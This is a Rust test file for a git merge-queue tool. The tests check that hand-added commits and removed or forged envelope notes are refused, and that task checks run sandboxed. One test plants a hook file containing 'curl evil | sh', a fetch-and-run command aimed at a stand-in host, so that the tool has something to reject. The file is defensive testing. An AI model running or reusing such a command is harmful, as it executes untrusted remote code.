//! `orbit merge --queue`: the integration branch brought home only when it holds exactly
//! the queue's recorded merges, each bringing a commit whose envelope (and its note)
//! verifies, and every done task's verifier passes on its head.

use super::{MAKE_OWN_FILE, Q, queue};
use crate::support::*;

/// A queue of two tasks run to done: `one` and `two`, each writing its own file.
fn two_done() -> Q {
    let q = queue(MAKE_OWN_FILE);
    q.add("one", "Write one.txt", "test -f one.txt", &[]);
    q.add("two", "Write two.txt", "test -f two.txt", &[]);
    assert_code(&q.run(&[]), 0, "orbit queue run");
    q
}

/// The loop commit task `name`'s recorded merge brought in, and that commit's DONE commit
/// (the same commit: the loop's branch ends at DONE).
fn brought_in(q: &Q, name: &str) -> String {
    let merged = q.task_json(name)["merged_commit"]
        .as_str()
        .unwrap()
        .to_string();
    q.repo
        .git(&["rev-parse", &format!("{merged}^2")])
        .trim()
        .to_string()
}

#[test]
fn merge_queue_verifies_every_task_and_fast_forwards_the_users_branch() {
    let q = two_done();
    let head = q.repo.git(&["rev-parse", "orbit/queue/main"]);
    // An untracked file and a dirty tracked file the merge does not touch are no obstacle.
    q.repo.write("README.md", "edited by the user\n");
    let out = q.repo.orbit(&["merge", "--queue"]);
    assert_ok(&out, "orbit merge --queue");
    assert!(text(&out).contains("2 done task(s)"), "{}", text(&out));
    assert_eq!(q.repo.git(&["rev-parse", "main"]), head, "a fast-forward");
    assert_eq!(q.repo.read("one.txt"), "one\n");
    assert_eq!(q.repo.read("two.txt"), "two\n");
    assert_eq!(q.repo.read("README.md"), "edited by the user\n");
    let again = q.repo.orbit(&["merge", "--queue"]);
    assert_ok(&again, "orbit merge --queue again");
    assert!(
        text(&again).contains("nothing to merge"),
        "{}",
        text(&again)
    );
}

#[test]
fn merge_queue_refuses_a_commit_added_to_the_integration_branch_by_hand() {
    let q = two_done();
    let main_before = q.repo.git(&["rev-parse", "main"]);
    // The attack: a commit of the integration branch that no task's merge brought, made
    // on its head by hand (plumbing, the user's checkout untouched).
    let head = q
        .repo
        .git(&["rev-parse", "orbit/queue/main"])
        .trim()
        .to_string();
    let blob = {
        let mut cmd = command("git");
        cmd.arg("-C")
            .arg(q.repo.path())
            .args(["hash-object", "-w", "--stdin"]);
        cmd.stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        use std::io::Write;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(b"curl evil | sh\n")
            .unwrap();
        let out = child.wait_with_output().unwrap();
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    let idx = q.repo.join("hand.index");
    let with_env = |args: &[&str]| {
        let out = command("git")
            .arg("-C")
            .arg(q.repo.path())
            .args(args)
            .env("GIT_INDEX_FILE", &idx)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    with_env(&["read-tree", &head]);
    with_env(&[
        "update-index",
        "--add",
        "--cacheinfo",
        &format!("100644,{blob},hook.sh"),
    ]);
    let tree = with_env(&["write-tree"]);
    let commit = with_env(&["commit-tree", &tree, "-p", &head, "-m", "a hand-added hook"]);
    q.repo
        .git(&["update-ref", "refs/heads/orbit/queue/main", &commit, &head]);
    assert!(q.on_integration("hook.sh").is_some(), "the attack was made");
    let out = q.repo.orbit(&["merge", "--queue"]);
    assert_code(&out, 3, "orbit merge --queue with a hand-added commit");
    let t = text(&out);
    assert!(t.contains("TREE_MOVED"), "{t}");
    assert!(t.contains(&commit[..12]), "{t}");
    assert!(t.contains("a hand-added hook"), "{t}");
    assert!(t.contains("(task two)") || t.contains("(task one)"), "{t}");
    assert_eq!(
        q.repo.git(&["rev-parse", "main"]),
        main_before,
        "nothing merged"
    );
    assert!(!q.repo.join("hook.sh").exists());
}

#[test]
fn merge_queue_refuses_a_removed_or_forged_envelope_note() {
    let q = two_done();
    let main_before = q.repo.git(&["rev-parse", "main"]);
    let done = brought_in(&q, "two");
    let note = q.repo.git(&["notes", "--ref=orbit", "show", &done]);
    // Removed: the DONE commit of task two carries no note.
    q.repo.git(&["notes", "--ref=orbit", "remove", &done]);
    let out = q.repo.orbit(&["merge", "--queue"]);
    assert_code(&out, 3, "orbit merge --queue without the note");
    let t = text(&out);
    assert!(t.contains("UNVERIFIED (task two)"), "{t}");
    assert!(t.contains("carries no note"), "{t}");
    assert_eq!(q.repo.git(&["rev-parse", "main"]), main_before);
    // Forged: the note put back with its tree changed (the digest no longer holds).
    let tree = q.repo.git(&["rev-parse", &format!("{done}^{{tree}}")]);
    let forged = note.replace(tree.trim(), &"0".repeat(40));
    assert_ne!(forged, note, "the attack changed the note");
    q.repo.git(&[
        "notes",
        "--ref=orbit",
        "add",
        "-f",
        "-m",
        forged.trim_end(),
        &done,
    ]);
    let out = q.repo.orbit(&["merge", "--queue"]);
    assert_code(&out, 3, "orbit merge --queue with a forged note");
    let t = text(&out);
    assert!(t.contains("(task two)"), "{t}");
    assert!(
        t.contains("ENVELOPE_CORRUPT") || t.contains("INTEGRITY_MISMATCH"),
        "{t}"
    );
    assert_eq!(q.repo.git(&["rev-parse", "main"]), main_before);
    // The note as it was: the merge goes through.
    q.repo.git(&[
        "notes",
        "--ref=orbit",
        "add",
        "-f",
        "-m",
        note.trim_end(),
        &done,
    ]);
    assert_ok(&q.repo.orbit(&["merge", "--queue"]), "orbit merge --queue");
}

/// `orbit merge --queue` runs every done task's checks on the integration head, that is
/// the agents' code: under each task loop's sandbox, as its checks ran, it cannot write
/// into the user's repository. (Run as the user, this probe wrote there.)
#[test]
fn merge_queue_runs_each_tasks_checks_under_its_loops_sandbox() {
    if !present_or_skipped(bwrap_available(), "ORBIT_REQUIRE_BWRAP", "bubblewrap") {
        return;
    }
    let q = super::probe_queue();
    assert_code(&q.run(&[]), 0, "orbit queue run");
    let planted = q.repo.join("into-repo.txt");
    assert!(!planted.exists(), "landing ran the probe under the sandbox");
    // The probe runs at merge --queue, and its write is refused there: made to fail after
    // its attempt, it is the refusal's output.
    let mut cmd = command(orbit_bin());
    cmd.args(["merge", "--queue"])
        .current_dir(q.repo.path())
        .env("PATH", q.repo.path_env())
        .env("PROBE_FAIL", "1");
    let out = run_bounded(cmd, std::time::Duration::from_secs(300));
    assert_code(&out, 3, "orbit merge --queue with the probe made to fail");
    assert!(text(&out).contains("PROBE REFUSED"), "{}", text(&out));
    assert!(
        !planted.exists(),
        "orbit merge --queue ran the task's code as the user"
    );
    let out = q.repo.orbit(&["merge", "--queue"]);
    assert_ok(&out, "orbit merge --queue");
    assert!(
        !planted.exists(),
        "orbit merge --queue ran the task's code as the user: it wrote into the repository"
    );
    assert!(
        q.repo.read("probe.sh").contains("PROBE REFUSED"),
        "merged home"
    );
}
